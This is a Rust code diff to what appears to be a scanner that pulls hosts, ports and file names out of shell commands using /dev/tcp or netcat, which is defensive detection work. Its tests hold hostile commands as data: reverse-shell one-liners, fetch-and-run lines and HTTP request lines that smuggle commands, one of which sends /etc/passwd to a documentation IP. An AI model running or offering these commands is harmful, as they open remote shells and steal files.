@@ -47,14 +47,20 @@ impl Scan<'_> {
         for (i, h) in hits.iter().enumerate() {
             let after = h.end..hits.get(i + 1).map_or(self.t.len(), |n| n.start).min(h.end + NEAR);
             let before = h.start.saturating_sub(NEAR).max(if i == 0 { 0 } else { hits[i - 1].end })..h.start;
-            let get = http_get(&self.t[after.clone()]).or_else(|| http_get_last(&self.t[before]));
             // From the command that names the device (`cat </dev/tcp/h/p > f`).
-            let first = toks.cmds.iter().rev().map(|c| c.start()).find(|&c| c <= h.start).unwrap_or(h.start);
+            let first = toks.cmds.partition_point(|c| c.start() <= h.start).checked_sub(1);
+            let first = first.map_or(h.start, |c| toks.cmds[c].start());
             let out = output_name(toks, first..after.end);
-            let req = match get {
-                Some(path) => http_request(&h.host, h.port, path, out),
-                None if read_only(&self.t, h.start) => Some(tcp_request(&h.host, h.port, out)),
-                None => None,
+            let req = match opened(&self.t, h.start) {
+                // `exec 3<>/dev/tcp/h/p; echo -e "GET /x HTTP/1.0…" >&3`
+                Open::ReadWrite => http_get(&self.t[after]).and_then(|p| http_request(&h.host, h.port, p, out)),
+                // `printf 'GET /x HTTP/1.0…' > /dev/tcp/h/p`: a whole request line, so that
+                // the request line of an HTTP attack that carries the command is not taken.
+                Open::Write => {
+                    http_request_line_last(&self.t[before]).and_then(|p| http_request(&h.host, h.port, p, out))
+                }
+                Open::Read => Some(tcp_request(&h.host, h.port, out)),
+                Open::Other => None,
             };
             if let Some(r) = req {
                 let pos = self.pos(h.start);
@@ -65,10 +71,16 @@ impl Scan<'_> {
 
     fn netcat(&mut self, toks: &Toks, ci: usize) {
         let cmd = &toks.cmds[ci];
+        // Most commands name no netcat: look before collecting the words.
+        let names_nc = toks.words[cmd.w0 as usize..cmd.w1 as usize]
+            .iter()
+            .any(|w| is_netcat(&toks.buf[w.a as usize..w.b as usize]));
+        if !names_nc {
+            return;
+        }
         let words = toks.words(cmd);
         let (_, k) = resolve(&words);
-        if k == 0 || k > words.len() || !matches!(&lower(basename_bytes(words[k - 1]))[..], b"nc" | b"ncat" | b"netcat")
-        {
+        if k == 0 || k > words.len() || !is_netcat(words[k - 1]) {
             return;
         }
         let Some((host, port)) = nc_server(&words[k..]) else { return };
@@ -117,14 +129,34 @@ fn dev_tcp_names(t: &[u8]) -> Vec<DevTcp> {
     out
 }
 
-/// Whether the `/dev/tcp/` name at `at` is opened for reading only (`< /dev/tcp/…`,
-/// `3</dev/tcp/…`), not written to (`>`, `>&`, `<>`).
-fn read_only(t: &[u8], at: usize) -> bool {
+/// How a `/dev/tcp/` name is opened.
+#[derive(Debug, PartialEq, Eq)]
+enum Open {
+    /// `< /dev/tcp/…`, `3</dev/tcp/…`.
+    Read,
+    /// `> /dev/tcp/…`, `3>/dev/tcp/…`.
+    Write,
+    /// `3<> /dev/tcp/…`.
+    ReadWrite,
+    /// Anything else, among them the reverse shells' `>& /dev/tcp/…` and `&> /dev/tcp/…`.
+    Other,
+}
+
+/// How the `/dev/tcp/` name at `at` of `t` is opened: the redirection operator before it.
+fn opened(t: &[u8], at: usize) -> Open {
     let mut k = at;
     while k > 0 && matches!(t[k - 1], b' ' | b'\t') {
         k -= 1;
     }
-    k > 0 && t[k - 1] == b'<' && (k < 2 || t[k - 2] != b'<')
+    let op = &t[k.saturating_sub(2)..k];
+    match op {
+        [b'<', b'>'] => Open::ReadWrite,
+        [b'&' | b'>', b'>'] | [b'<' | b'>', b'&'] => Open::Other,
+        [.., b'>'] => Open::Write,
+        [b'<', b'<'] => Open::Other,
+        [.., b'<'] => Open::Read,
+        _ => Open::Other,
+    }
 }
 
 /// The path of the first `GET /path` in `s`.
@@ -133,10 +165,17 @@ fn http_get(s: &[u8]) -> Option<&[u8]> {
     Some(get_path(&s[k + 4..]))
 }
 
-/// The path of the last `GET /path` in `s`.
-fn http_get_last(s: &[u8]) -> Option<&[u8]> {
-    let k = s.windows(5).rposition(|w| w == b"GET /")?;
-    Some(get_path(&s[k + 4..]))
+/// The path of the last `GET /path HTTP/` in `s`.
+fn http_request_line_last(s: &[u8]) -> Option<&[u8]> {
+    let mut end = s.len();
+    while let Some(k) = s[..end].windows(5).rposition(|w| w == b"GET /") {
+        let path = get_path(&s[k + 4..]);
+        if s[k + 4 + path.len()..].starts_with(b" HTTP/") {
+            return Some(path);
+        }
+        end = k;
+    }
+    None
 }
 
 /// The request target at the start of `s`: up to white space, a quote, a backslash (`\r`
@@ -153,9 +192,10 @@ fn get_path(s: &[u8]) -> &[u8] {
 /// The file name of the first command in `range` of the text that redirects its output to
 /// a file.
 fn output_name(toks: &Toks, range: std::ops::Range<usize>) -> Option<String> {
-    toks.cmds
+    let from = toks.cmds.partition_point(|c| c.start() < range.start);
+    toks.cmds[from..]
         .iter()
-        .filter(|c| range.contains(&c.start()))
+        .take_while(|c| c.start() < range.end)
         .find_map(|c| toks.redir(c).filter(|(t, _)| !dev_target(t)).and_then(|(t, _)| basename(t)))
 }
 
@@ -173,9 +213,10 @@ fn tcp_request(host: &str, port: u16, out: Option<String>) -> Request {
     Request { filename, ..Request::new(Scheme::Tcp, host, Some(port), "") }
 }
 
-/// The last component of a program path (`/bin/nc` → `nc`).
-fn basename_bytes(w: &[u8]) -> &[u8] {
-    w.iter().rposition(|&c| c == b'/').map_or(w, |k| &w[k + 1..])
+/// Whether a program word names netcat (`nc`, `/bin/nc`, `NCAT`, `netcat`).
+fn is_netcat(w: &[u8]) -> bool {
+    let name = w.iter().rposition(|&c| c == b'/').map_or(w, |k| &w[k + 1..]);
+    [&b"nc"[..], b"ncat", b"netcat"].iter().any(|n| name.eq_ignore_ascii_case(n))
 }
 
 /// The server of an `nc` command line (`args` after the program): `HOST PORT` after the
@@ -279,6 +320,11 @@ mod tests {
     fn dev_tcp_read_only_is_a_tcp_stream() {
         check("cat < /dev/tcp/192.0.2.7/4444 > /tmp/k; sh /tmp/k", &["tcp tcp://192.0.2.7:4444  k"]);
         check("sh </dev/tcp/192.0.2.7/4444", &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"]);
+        check("exec 3</dev/tcp/192.0.2.7/4444; cat <&3 >k3", &["tcp tcp://192.0.2.7:4444  k3"]);
+        check(
+            "GET /cgi-bin/x?c=cd+/tmp;sh+</dev/tcp/192.0.2.7/4444 HTTP/1.1\r\nHost: x\r\n\r\n",
+            &["tcp tcp://192.0.2.7:4444  192.0.2.7_4444"],
+        );
     }
 
     #[test]
@@ -288,6 +334,13 @@ mod tests {
             "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
             "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196",
             "sh -i 5<> /dev/tcp/192.0.2.7/4444 0<&5 1>&5 2>&5",
+            "sh -i &>/dev/tcp/192.0.2.7/4444 0>&1",
+            // The same in an HTTP request line, and data sent away: the request line is no
+            // request written to the device.
+            "GET /x?c=bash+-i+>%26+/dev/tcp/192.0.2.7/4444+0>%261 HTTP/1.1\r\n\r\n",
+            "GET /x?c=cat+/etc/passwd+>/dev/tcp/192.0.2.7/4444 HTTP/1.1\r\n\r\n",
+            // A request written, nothing read: still a request line needed.
+            "echo GET /x > /dev/tcp/192.0.2.7/80",
             // Host or port in a variable, bad port, bad host.
             "exec 3<>/dev/tcp/${HOST}/$PORT; echo -en \"GET ${DOC} HTTP/1.0\\r\\n\\r\\n\" >&3",
             "cat </dev/tcp/192.0.2.7/99999 > f",
